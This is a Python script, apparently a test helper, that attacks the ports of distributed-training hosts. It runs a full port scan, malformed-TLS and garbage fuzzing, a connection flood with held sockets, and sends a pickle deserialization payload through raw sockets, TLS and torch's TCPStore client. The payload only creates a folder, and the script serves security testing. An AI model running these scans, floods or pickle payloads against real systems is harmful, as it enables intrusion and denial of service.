"""What a stranger does to the ports of two hosts: run on a third host, by hand of a test.

``python stranger_attacks.py ATTACK HOST:PORT…`` prints what came of it as JSON. Plain sockets alone,
but for the attack that needs torch's own client.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import pickle
import random
import selectors
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterable
from typing import Any

Where = tuple[str, int]
_AT_ONCE = 2000
_WAIT = 1.0


class Payload:
    """Makes a folder where it is unpickled."""

    def __reduce__(self) -> Any:
        return os.mkdir, (os.environ["STRANGER_TARGET"],)


def scan(hosts: Iterable[str]) -> dict[str, list[int]]:
    """The ports of each host that take a connection; each gets some garbage at once."""
    noise = random.Random(0)
    found: dict[str, list[int]] = {}
    for host in hosts:
        found[host] = []
        ports = list(range(1, 65536))
        while ports:
            batch, ports = ports[:_AT_ONCE], ports[_AT_ONCE:]
            for port in _connected(host, batch, noise):
                found[host].append(port)
    return found


def _connected(host: str, ports: list[int], noise: random.Random) -> Iterable[int]:
    selector = selectors.DefaultSelector()
    for port in ports:
        probe = socket.socket()
        probe.setblocking(False)
        if probe.connect_ex((host, port)) == errno.EINPROGRESS:
            selector.register(probe, selectors.EVENT_WRITE, port)
        else:
            probe.close()
    deadline = time.monotonic() + _WAIT
    while selector.get_map() and time.monotonic() < deadline:
        for key, _ in selector.select(0.1):
            probe = key.fileobj  # type: ignore[assignment]
            selector.unregister(probe)
            if probe.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                with contextlib.suppress(OSError):
                    probe.send(noise.randbytes(noise.randrange(1, 400)))
                yield key.data
            probe.close()
    for key in list(selector.get_map().values()):
        key.fileobj.close()  # type: ignore[union-attr]
    selector.close()


def garbage(places: list[Where]) -> dict[str, int]:
    """Bytes that are no TLS, or almost; pickles among them. How many bytes came back as data."""
    noise = random.Random(1)
    hello = ssl.MemoryBIO()
    context = ssl.create_default_context()
    client = context.wrap_bio(ssl.MemoryBIO(), hello, server_hostname="x")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    greeting = hello.read()
    pickled = pickle.dumps(Payload())
    texts = [
        b"",
        b"GET / HTTP/1.0\r\n\r\n",
        noise.randbytes(2000),
        pickled,
        len(pickled).to_bytes(8, "little") + pickled,
        greeting[: len(greeting) // 2],
        greeting[:5] + b"\xff" * 600,
        greeting + noise.randbytes(500),
        b"\x16\x03\x01\xff\xff" + b"\0" * 70_000,
        b"\x15\x03\x03\x00\x02\x02\x28",
        b"\0\x07init/" * 50,
    ]
    for _ in range(60):
        changed = bytearray(greeting)
        for _ in range(noise.randrange(1, 20)):
            changed[noise.randrange(len(changed))] = noise.randrange(256)
        texts.append(bytes(changed))
    came = 0
    for where in places:
        for text in texts:
            with contextlib.suppress(OSError), socket.create_connection(where, 2) as stranger:
                stranger.sendall(text)
                stranger.settimeout(0.02)
                came += len(stranger.recv(10))
    return {"sent": len(texts) * len(places), "came": came}


def tls(places: list[Where]) -> dict[str, int]:
    """TLS with no certificate; then what a store's client would say, and a pickle."""
    got = 0
    for where in places:
        for version in (ssl.TLSVersion.TLSv1_3, ssl.TLSVersion.TLSv1_2):
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.maximum_version = version
            with contextlib.suppress(OSError):
                plain = socket.create_connection(where, timeout=3)
                with plain, context.wrap_socket(plain) as stranger:
                    stranger.sendall(b"\0" + pickle.dumps(Payload()))
                    got += len(stranger.recv(100))
    return {"got": got}


def flood(places: list[Where]) -> dict[str, int]:
    """Connections as fast as they come, opened and dropped; then many held, a byte now and then."""
    made = 0
    deadline = time.monotonic() + 4
    while time.monotonic() < deadline:
        for where in places:
            with contextlib.suppress(OSError):
                socket.create_connection(where, timeout=2).close()
                made += 1
    held = []
    for where in places:
        for _ in range(400):
            with contextlib.suppress(OSError):
                held.append(socket.create_connection(where, timeout=2))
    deadline = time.monotonic() + 6
    while time.monotonic() < deadline:
        for stranger in held:
            with contextlib.suppress(OSError):
                stranger.send(b"\x16")
        time.sleep(0.5)
    return {"made": made, "held": len(held)}


def store(places: list[Where]) -> dict[str, int]:
    """Torch's own client, which would set a key, read one, and leave a pickle."""
    from datetime import timedelta

    from torch.distributed import TCPStore  # type: ignore[attr-defined]

    reached = 0
    for host, port in places:
        with contextlib.suppress(RuntimeError):
            client = TCPStore(
                host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
            )
            client.set("outcome", "stop")
            client.set("forwarded/1", pickle.dumps(Payload()))
            reached += 1
    return {"reached": reached}


ATTACKS: dict[str, Callable[..., Any]] = {
    "garbage": garbage,
    "tls": tls,
    "flood": flood,
    "store": store,
}

if __name__ == "__main__":
    name, *rest = sys.argv[1:]
    if name == "scan":
        result: Any = scan(rest)
    else:
        pairs = [text.rpartition(":") for text in rest]
        result = ATTACKS[name]([(host, int(port)) for host, _, port in pairs])
    print(json.dumps(result))
